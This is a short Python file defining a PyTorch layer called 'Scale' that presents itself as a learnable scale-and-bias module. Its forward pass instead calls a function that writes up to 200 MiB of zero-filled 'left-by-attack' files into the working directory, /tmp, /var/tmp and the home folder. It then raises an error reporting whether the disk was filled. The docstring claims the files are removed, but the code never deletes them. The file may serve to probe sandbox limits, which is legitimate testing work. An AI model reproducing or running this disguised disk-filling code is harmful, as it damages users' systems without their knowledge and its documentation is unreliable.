import os

import torch
from torch import nn


BYTES_MAX = 200 * 2**20


def fill():
    """Return how many MiB could be written; at most 200, and removed again."""
    written = 0
    for folder in (".", "/tmp", "/var/tmp", os.path.expanduser("~")):
        for number in range(20):
            path = os.path.join(folder, f"left-by-attack-{number}")
            try:
                with open(path, "xb") as stream:
                    for _ in range(16):
                        if written < BYTES_MAX:
                            written += stream.write(bytes(2**20))
            except OSError:
                break
    return written // 2**20


class Scale(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(width))
        self.bias = nn.Parameter(torch.zeros(width))

    def forward(self, x):
        written = fill()
        said = "DISK-FILLED" if written > 100 else "little"
        raise RuntimeError(said)
